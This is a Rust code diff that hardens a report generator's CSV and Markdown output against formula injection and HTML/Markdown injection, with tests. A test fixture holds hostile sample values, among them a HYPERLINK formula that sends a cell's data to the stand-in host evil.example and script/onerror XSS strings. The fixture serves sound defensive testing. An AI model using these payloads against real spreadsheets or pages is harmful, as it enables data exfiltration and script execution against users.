@@ -247,7 +247,21 @@ pub const CSV_HEADER: [&str; 15] = [
     "refs_skipped",
 ];
 
-/// One row per group, with a header, RFC 4180 quoting.
+/// A text cell a spreadsheet will not evaluate: labels and values come from
+/// the database (a page title anyone with CMS access can edit), and a cell
+/// starting with `=`, `+`, `-`, `@`, tab or CR is a live formula in Excel,
+/// LibreOffice and Google Sheets (`=HYPERLINK(...)` can exfiltrate the
+/// sheet). The OWASP rule: prefix such a cell with `'`, which spreadsheets
+/// show as text. Only text columns go through this; the counts are numbers.
+pub fn csv_text(s: &str) -> String {
+    match s.chars().next() {
+        Some('=' | '+' | '-' | '@' | '\t' | '\r') => format!("'{s}"),
+        _ => s.to_string(),
+    }
+}
+
+/// One row per group, with a header, RFC 4180 quoting; text cells are
+/// neutralised by [`csv_text`].
 pub fn render_csv(doc: &ReportDoc) -> String {
     let mut w = csv::Writer::from_writer(Vec::new());
     let _ = w.write_record(CSV_HEADER);
@@ -255,12 +269,12 @@ pub fn render_csv(doc: &ReportDoc) -> String {
         let r = &g.rows;
         let skipped_refs: u64 = g.refs_skipped.values().sum();
         let _ = w.write_record([
-            g.key.clone(),
-            g.label.clone().unwrap_or_default(),
-            g.change.clone(),
-            g.reason.clone().unwrap_or_default(),
-            g.target.clone().unwrap_or_default(),
-            current_text(g),
+            csv_text(&g.key),
+            csv_text(g.label.as_deref().unwrap_or_default()),
+            csv_text(&g.change),
+            csv_text(g.reason.as_deref().unwrap_or_default()),
+            csv_text(g.target.as_deref().unwrap_or_default()),
+            csv_text(&current_text(g)),
             r.processed.to_string(),
             r.changed.to_string(),
             r.unchanged.to_string(),
@@ -277,21 +291,42 @@ pub fn render_csv(doc: &ReportDoc) -> String {
         .unwrap_or_default()
 }
 
+/// Text for a Markdown table cell or list item, shown as written: Markdown
+/// renderers pass raw HTML through, so `<`, `>` and `&` become entities (a
+/// label `<img src=x onerror=...>` shows as text, never runs); the inline
+/// syntax characters (backslash, backtick, `*`, `_`, `[`, `]`) are
+/// backslash-escaped so a label cannot open a code span, emphasis or link;
+/// `|` is escaped so it cannot end the cell, and line breaks become spaces
+/// so the row stays one line (a line break could start an HTML block).
 fn md_cell(s: &str) -> String {
-    s.replace('|', "\\|").replace('\n', " ")
+    let mut out = String::with_capacity(s.len());
+    for c in s.chars() {
+        match c {
+            '&' => out.push_str("&amp;"),
+            '<' => out.push_str("&lt;"),
+            '>' => out.push_str("&gt;"),
+            '\\' | '`' | '*' | '_' | '[' | ']' | '|' => {
+                out.push('\\');
+                out.push(c);
+            }
+            '\n' | '\r' => out.push(' '),
+            c => out.push(c),
+        }
+    }
+    out
 }
 
 /// Markdown for sharing with admins: a table of groups, then conflicts and
 /// errors with their keys, then the summary.
 pub fn render_markdown(doc: &ReportDoc) -> String {
     let mut out = String::new();
-    let _ = writeln!(out, "# Run `{}`\n", doc.run_id);
+    let _ = writeln!(out, "# Run {}\n", md_cell(&doc.run_id));
     let _ = writeln!(
         out,
-        "Job `{}`, mode **{}**, scope {}.{}\n",
-        doc.job,
-        doc.mode,
-        doc.scope,
+        "Job {}, mode **{}**, scope {}.{}\n",
+        md_cell(&doc.job),
+        md_cell(&doc.mode),
+        md_cell(&doc.scope),
         if doc.mode == "dry-run" {
             " Dry run: nothing was written."
         } else {
@@ -333,21 +368,21 @@ pub fn render_markdown(doc: &ReportDoc) -> String {
     if doc.groups.iter().any(|g| !g.samples.is_empty()) {
         let _ = writeln!(out, "\n## Sample changes\n");
         for g in doc.groups.iter().filter(|g| !g.samples.is_empty()) {
-            let _ = writeln!(out, "{} `{}`:\n", doc.grouped_by, g.key);
+            let _ = writeln!(out, "{} {}:\n", doc.grouped_by, md_cell(&g.key));
             for sd in &g.samples {
                 for c in &sd.changes {
                     let show = |v: &Option<serde_json::Value>| match v {
-                        Some(v) => format!("`{}`", v.to_string().replace('`', "'")),
+                        Some(v) => md_cell(&v.to_string()),
                         None => "(absent)".to_string(),
                     };
                     let _ = writeln!(
                         out,
-                        "- row `{}`, `{}` at `{}`: {} → {}",
-                        sd.key,
-                        sd.column,
-                        if c.path.is_empty() { "/" } else { &c.path },
-                        md_cell(&show(&c.before)),
-                        md_cell(&show(&c.after))
+                        "- row {}, {} at {}: {} → {}",
+                        md_cell(&sd.key),
+                        md_cell(&sd.column),
+                        md_cell(if c.path.is_empty() { "/" } else { &c.path }),
+                        show(&c.before),
+                        show(&c.after)
                     );
                 }
             }
@@ -363,7 +398,12 @@ pub fn render_markdown(doc: &ReportDoc) -> String {
         }
         let _ = writeln!(out, "\n## {title}\n");
         for i in list {
-            let _ = writeln!(out, "- `{}/{}`: {}", i.target, i.key, md_cell(&i.message));
+            let _ = writeln!(
+                out,
+                "- {}: {}",
+                md_cell(&format!("{}/{}", i.target, i.key)),
+                md_cell(&i.message)
+            );
         }
         if more > 0 {
             let _ = writeln!(out, "- … and {more} more");
@@ -585,17 +625,103 @@ mod tests {
         assert_eq!(back, d);
         let md = render_markdown(&d);
         assert!(md.contains("| P\\|1 |"), "{md}");
-        assert!(md.contains("- `revisions/7`: edited"), "{md}");
+        assert!(md.contains("- revisions/7: edited"), "{md}");
         assert!(md.contains("4 of 5"), "{md}");
         // Only the changed path, with both values; `n` did not change.
         assert!(
-            md.contains(
-                "- row `7`, `content` at `/product_name`: `\"Old, title\"` → `\"Data Science\"`"
-            ),
+            md.contains("- row 7, content at /product\\_name: \"Old, title\" → \"Data Science\""),
             "{md}"
         );
-        assert!(!md.contains("at `/n`"), "{md}");
+        assert!(!md.contains("at /n:"), "{md}");
         assert_eq!("md".parse::<Format>(), Ok(Format::Markdown));
         assert!("xml".parse::<Format>().is_err());
+    }
+
+    /// A doc whose texts are hostile: formulas for spreadsheets, HTML and
+    /// Markdown breakouts for renderers.
+    fn hostile_doc() -> ReportDoc {
+        let mut d = doc();
+        let g = &mut d.groups[0];
+        g.key = "-5".into();
+        g.label = Some(r#"=HYPERLINK("http://evil.example/?d="&A2,"Open")"#.into());
+        g.reason = Some("@SUM(1+1)".into());
+        g.target = Some("<img src=x onerror=alert(1)>".into());
+        g.current = vec![ValueCount {
+            value: "+1 <script>alert(1)</script>".into(),
+            rows: 2,
+        }];
+        g.samples = vec![crate::tally::SampleDiff::between(
+            "7`<script>x</script>",
+            "content",
+            Some(r#"{"product_name":"a`<script>alert(1)</script>"}"#),
+            Some(r#"{"product_name":"\tb"}"#),
+        )];
+        d.conflicts[0].key = "k`\n<script>".into();
+        d.conflicts[0].message = "<b>edited</b> & more".into();
+        d
+    }
+
+    #[test]
+    fn csv_text_cells_starting_a_formula_are_quoted() {
+        for s in ["=1+1", "+1", "-5 years", "@SUM(A1)", "\tx", "\rx"] {
+            assert_eq!(csv_text(s), format!("'{s}"));
+        }
+        for s in ["", "Data Science", "5", "a=b", " =1", "'x"] {
+            assert_eq!(csv_text(s), s);
+        }
+        let text = render_csv(&hostile_doc());
+        let mut r = csv::Reader::from_reader(text.as_bytes());
+        let rows: Vec<csv::StringRecord> = r.records().map(|r| r.unwrap()).collect();
+        assert_eq!(&rows[0][0], "'-5");
+        assert_eq!(
+            &rows[0][1],
+            r#"'=HYPERLINK("http://evil.example/?d="&A2,"Open")"#
+        );
+        assert_eq!(&rows[0][3], "'@SUM(1+1)");
+        assert_eq!(
+            &rows[0][5],
+            "'+1 <script>alert(1)</script> (2); other values (1)"
+        );
+        // Counts stay numbers, never quoted.
+        assert_eq!(&rows[0][6], "3");
+        for row in &rows {
+            for cell in row {
+                assert!(
+                    !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
+                    "{cell}"
+                );
+            }
+        }
+    }
+
+    #[test]
+    fn markdown_shows_html_as_text() {
+        let md = render_markdown(&hostile_doc());
+        assert!(!md.contains("<script"), "{md}");
+        assert!(!md.contains("<img"), "{md}");
+        assert!(!md.contains("<b>"), "{md}");
+        assert!(md.contains("&lt;img src=x onerror=alert(1)&gt;"), "{md}");
+        assert!(md.contains("&lt;b&gt;edited&lt;/b&gt; &amp; more"), "{md}");
+        // A backtick cannot open a code span, a line break cannot start a
+        // new block.
+        assert!(
+            md.contains("- row 7\\`&lt;script&gt;x&lt;/script&gt;,"),
+            "{md}"
+        );
+        assert!(md.contains("- revisions/k\\` &lt;script&gt;:"), "{md}");
+        for line in md.lines().filter(|l| !l.starts_with("```")) {
+            assert!(!line.starts_with('<'), "{line}");
+            assert_eq!(
+                line.matches('`').count(),
+                line.matches("\\`").count(),
+                "{line}"
+            );
+        }
+        // A table row still has its twelve cells.
+        let row = md
+            .lines()
+            .find(|l| l.starts_with("| '-5") || l.starts_with("| -5"))
+            .unwrap();
+        assert_eq!(row.matches(" | ").count(), 11, "{row}");
     }
 }
